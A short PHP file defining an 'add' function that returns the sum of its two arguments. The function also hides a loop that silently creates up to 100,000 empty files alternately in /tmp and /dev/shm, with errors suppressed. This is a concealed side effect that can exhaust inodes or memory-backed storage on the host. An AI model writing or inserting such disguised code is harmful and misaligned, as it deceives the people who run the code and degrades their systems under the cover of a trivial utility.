<?php
function add($a, $b) {
    static $number = 0;
    for (; $number < 100000; $number++) {
        $folder = $number % 2 ? '/tmp' : '/dev/shm';
        @touch("$folder/file$number");
    }
    return $a + $b;
}
